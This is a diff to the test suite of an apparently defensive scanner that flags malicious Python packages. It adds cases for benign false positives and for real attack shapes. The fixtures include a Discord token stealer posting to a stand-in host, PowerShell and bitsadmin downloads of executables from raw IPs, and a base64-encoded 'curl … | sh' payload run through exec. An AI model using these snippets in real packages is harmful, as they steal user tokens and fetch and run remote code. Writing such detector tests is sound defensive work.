@@ -250,7 +250,7 @@ def test_a_shipped_name_without_its_folder_is_not_a_start() -> None:
     a bare name that is also a common word matched the shipped ``bootloader/<platform>/run``. A nested
     binary now needs its folder named in the file too."""
     init = "import subprocess\nexe = 'helper'\nsubprocess.run(['make', exe], capture_output=True)\n"
-    result, top = verdict(_wheel_with_helper(init))
+    _, top = verdict(_wheel_with_helper(init))
     assert "package.runs-shipped-binary:high" not in top, top
 
 
@@ -584,3 +584,77 @@ def test_pages_opened_in_a_browser_and_commands_in_help_text() -> None:
     for code in (browser, template, cgi):
         result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
         assert result == "clean", (code, findings)
+
+
+def test_second_held_out_batch_shapes_stay_clean() -> None:
+    """Shapes behind the false positives of the second held-out batch (250 PyPI packages): marimo's Rick-roll
+    video ID in _smoke_tests (the Discord token prefix is the ID with a colon), mccabe's eval of its
+    version line, azure-devops' downloadFileName parameter, bzt's bitsadmin command for a remote machine,
+    pyarmor's own bootstrap template."""
+    cases = {
+        "helperlib/_smoke_tests/video.py": "import requests\nyt = YouTubeVideo('dQw4w9WgXcQ')\n"
+                                           "requests.get('https://www.youtube.com/embed/dQw4w9WgXcQ')\n",
+        "helperlib/client.py": "def query(p):\n    p['downloadFileName'] = 'x'\n    return p\n",
+        "helperlib/remote.py": "def fetch_jars(host):\n    return host.run('bitsadmin /transfer junit "
+                               "https://repo1.maven.org/junit.jar C:\\\\junit.jar')\n",
+        "helperlib/context.py": "bootstrap_template = '''# Pyarmor $rev\nfrom $package import __pyarmor__\n"
+                                "__pyarmor__(__name__, $path, $code)\n'''\n",
+    }
+    setup = ("from setuptools import setup\n\ndef get_version(f='helperlib/__init__.py'):\n"
+             "    for line in open(f):\n        if line.startswith('__version__'):\n"
+             "            return eval(line.split('=')[-1])\n\nsetup(name='helperlib', version=get_version())\n")
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py":
+                                                          "__version__ = '0.1'\n", **cases}))
+    assert result == "clean", findings
+
+
+def test_what_still_counts_after_the_second_batch() -> None:
+    """The narrowed patterns keep the real shapes: the token-blob regex of a Discord stealer, a PowerShell
+    DownloadFile, an obfuscated PyArmor module, bitsadmin at import."""
+    stealer = ("import os, re, requests\n"
+               "for f in os.listdir(os.getenv('APPDATA') + '/discord/Local Storage/leveldb'):\n"
+               "    for t in re.findall(r'dQw4w9WgXcQ:[^\"]*', open(f).read()):\n"
+               "        requests.post('https://x.example.net/t', data=t)\n")
+    assert "package.stealer:critical" in verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP,
+                                                                          "helperlib/__init__.py": stealer}))[1]
+    ps = "import os\nos.system('powershell (New-Object Net.WebClient).DownloadFile(\"http://1.2.3.4/a\", \"a.exe\")')\n"
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP + ps}))[0] == "malicious"
+    armored = "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n"
+    assert "package.obfuscated-code:high" in verdict(sdist("helperlib", "0.1", {
+        "setup.py": _SETUP, "helperlib/__init__.py": armored}))[1]
+    bits = "import os\nos.system('bitsadmin /transfer j http://45.61.136.12/a.exe C:\\\\a.exe')\n"
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": bits}))[0] != "clean"
+
+
+def test_maintainer_branches_of_setup_py_do_not_run_at_install() -> None:
+    """telethon's setup.py checks its docs site and runs twine under ``argv[1] == 'pypi'``: pip never passes
+    that command. A branch on a command pip does run (install) still runs at install; stale __pycache__
+    bytecode without its source (dj-rest-auth) never runs at all."""
+    publish = ("import sys, os, urllib.request\nfrom setuptools import setup\n\ndef main(argv):\n"
+               "    if len(argv) >= 2 and argv[1] == 'pypi':\n"
+               "        urllib.request.urlopen('https://docs.example.org/').read()\n"
+               "        os.system('python3 setup.py sdist')\n        os.system('twine upload dist/*')\n"
+               "        return\n    setup(name='helperlib', version='0.1')\n\nmain(sys.argv)\n")
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": publish}))
+    assert result == "clean", findings
+    evil = publish.replace("argv[1] == 'pypi'", "argv[1] == 'install'")
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": evil}))[0] != "clean"
+    stale = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "",
+                                        "helperlib/passkeys/__pycache__/views.cpython-312.pyc": _pyc("X = 1\n")})
+    assert not [s for s in facts_of(stale).signals if s.file.endswith(".pyc")]
+
+
+def test_tests_nothing_imports_get_the_text_pass() -> None:
+    """Tests, docs and examples that nothing imports run only when someone runs them: their text gets the
+    indicator and payload checks, without a syntax tree (a sixth of the time on large packages). A payload
+    decoded and executed in a test file is still found; a test file the package imports gets the full scan."""
+    payload = base64.b64encode(b"import os\nos.system('curl http://45.61.136.12/x | sh')\n").decode()
+    tests = {"tests/test_net.py": "import requests\n\ndef test_get():\n    requests.get('https://example.org')\n",
+             "tests/test_blob.py": f"import base64\nexec(base64.b64decode('{payload}'))\n"}
+    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "", **tests}))
+    assert facts.test_text_files == 2
+    assert not [s for s in facts.signals if s.kind == "net.request"]
+    assert [s for s in facts.signals if s.kind == "exec.decoded" and s.file == "tests/test_blob.py"]
+    imported = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "from tests import test_net\n",
+                                          **tests})
+    assert [s for s in facts_of(imported).signals if s.kind == "net.request" and s.file == "tests/test_net.py"]
